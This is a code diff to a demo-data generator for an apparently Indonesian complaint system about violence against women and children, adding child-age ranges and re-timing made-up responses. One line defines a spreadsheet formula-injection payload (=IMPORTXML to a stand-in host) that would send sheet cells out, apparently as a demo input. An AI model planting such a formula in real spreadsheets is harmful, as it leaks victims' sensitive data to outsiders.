@@ -28,6 +28,7 @@ from config.settings import Settings
 from rules.complaint import FIELDS
 from rules.errors import InputError, SapaError, TransientError
 from sync.stores.local_store import lock_file
+from sync.stores.store import AppendRow, Store, Value, WritePlan
 
 _REPORTERS = ["Siti Aminah", "Budi Santoso", "Lina Marlina", "Hendra Wijaya", "Nur Aisyah",
               "Rudi Hartono", "Maria Ulfa", "Agus Salim", "Dewi Lestari", "Yohanes Liu", "", ""]
@@ -35,7 +36,8 @@ _VICTIMS = ["A.R.", "S", "Mawar", "NH", "Melati", "R. (12 th)", "Bunga", "DS", "
             "Tiara", "Putri", "Anak laki-laki usia 9", "M.F."]
 _PHONES = ["0812-3456-7890", "+62 813 5555 1212", "6285245678901", "0852 4567 8901", "812.9876.5432",
            "08115678123", "+62-821-4455-6677", "0813 1234", "0562639472", ""]
-# (story, violence types, victim's sex, child?, perpetrator, place): coherent made-up cases
+# (story, violence types, victim's sex, child?, perpetrator, place): coherent made-up cases; a child's
+# age is brought into the range its story speaks of (_AGES)
 _SCENARIOS = [
     ("Korban sering dipukul oleh ayah tirinya ketika mabuk. Tetangga sering mendengar teriakan malam hari.",
      "Fisik, Psikis", "Perempuan", True, "Orang tua", "Rumah tangga"),
@@ -58,6 +60,7 @@ _SCENARIOS = [
     ("Korban diperas dan diancam fotonya disebarkan oleh mantan pacarnya.",
      "Psikis, Seksual", "Perempuan", False, "Pacar/teman", "Media sosial/daring"),
 ]
+_AGES = {0: (6, 14), 1: (11, 16), 3: (5, 12), 4: (8, 15), 7: (15, 15)}  # scenario -> child's ages
 _KEC = ["Singkawang Barat", "Singkawang Tengah", "Singkawang Timur", "Singkawang Utara",
         "Singkawang Selatan"]
 _KEL = {"Singkawang Barat": ["Pasiran", "Melayu", "Kuala"],
@@ -68,6 +71,10 @@ _CONSENT = "Saya setuju data ini digunakan oleh DSP3A Kota Singkawang untuk pena
 WORKBOOK = "sapa-demo.xlsx"
 INJECTION = '=IMPORTXML("http://contoh.invalid/?d="&A2:Z99, "//a")'
 START = datetime(2026, 11, 20, 8, 15, 0)
+# The demo office at work: the first responses came in a month ago and were worked; the rest arrived in
+# the last hour (the quickest first contact is due in an hour): a few cases are late, not nearly all.
+WORKED = 7  # the cases the demo walks through the procedure (demo_walk.choose_cases)
+FRESH_SPAN = timedelta(minutes=55)
 
 
 def sample_rows(count: int = 40, seed: int = 7, start: datetime = START) -> list[dict[str, object]]:
@@ -95,6 +102,28 @@ def sample_rows(count: int = 40, seed: int = 7, start: datetime = START) -> list
     return rows
 
 
+def split_fresh(rows: list[dict[str, object]], now: datetime) -> tuple[list[dict[str, object]], list[dict[str, object]]]:
+    """The first WORKED responses as they are; the others timed anew, evenly over FRESH_SPAN before `now`."""
+    fresh = rows[WORKED:]
+    step = FRESH_SPAN / max(len(fresh), 1)
+    begin = now - FRESH_SPAN
+    return rows[:WORKED], [{**row, "timestamp": begin + step * k} for k, row in enumerate(fresh)]
+
+
+def append_responses(store: Store, rows: list[dict[str, object]], settings: Settings,
+                     tab: str = "Respons Formulir 1") -> None:
+    """Responses that arrive while the office works, below the others, as the form adds them."""
+    questions = settings.form.questions
+    store.read([])  # a store writes only over what it has read
+    store.write(WritePlan(tuple(
+        AppendRow(tab, tuple((questions[f], _cell(row.get(f))) for f in FIELDS)) for row in rows
+    )))
+
+
+def _cell(value: object) -> Value:
+    return value if isinstance(value, (str, datetime)) and value != "" else None
+
+
 def _ordinary(rng: random.Random, i: int, moment: datetime) -> dict[str, object]:
     kecamatan = rng.choice(_KEC)
     story, violence, sex, child, perpetrator, place = _SCENARIOS[i % len(_SCENARIOS)]
@@ -109,8 +138,7 @@ def _ordinary(rng: random.Random, i: int, moment: datetime) -> dict[str, object]
         "wa_safe_time": rng.choice(["", "", "Setelah jam 19.00", "Pagi hari saat suami bekerja"]),
         "victim_name": rng.choice(_VICTIMS),
         "victim_sex": sex,
-        "victim_age": rng.choice([str(rng.randint(3, 17)), f"{rng.randint(5, 16)} tahun"]) if child
-        else rng.choice([str(rng.randint(18, 55)), "", "sekitar 30"]),
+        "victim_age": _child_age(rng, i) if child else rng.choice([str(rng.randint(18, 55)), "", "sekitar 30"]),
         "victim_disability": rng.choice(["Tidak", "Tidak", "Ya", "Tidak tahu", ""]),
         "kecamatan": kecamatan if rng.random() < 0.95 else "Di luar Kota Singkawang",
         "kelurahan": rng.choice(_KEL[kecamatan] + [""]),
@@ -126,6 +154,16 @@ def _ordinary(rng: random.Random, i: int, moment: datetime) -> dict[str, object]
                                               "Konseling", "Pendampingan hukum"], rng.randint(0, 1))),
         "consent": _CONSENT,
     }
+
+
+def _child_age(rng: random.Random, i: int) -> str:
+    """A child's age as reporters write it, within the ages the case's story fits (the same draws as
+    ever, so the demo's other answers stay as they were)."""
+    low, high = _AGES.get(i % len(_SCENARIOS), (3, 17))
+    bare, worded = rng.randint(3, 17), rng.randint(5, 16)
+    as_number = rng.choice([True, False])
+    age = low + ((bare if as_number else worded) - 3) % (high - low + 1)
+    return str(age) if as_number else f"{age} tahun"
 
 
 def _phone(rng: random.Random) -> str:
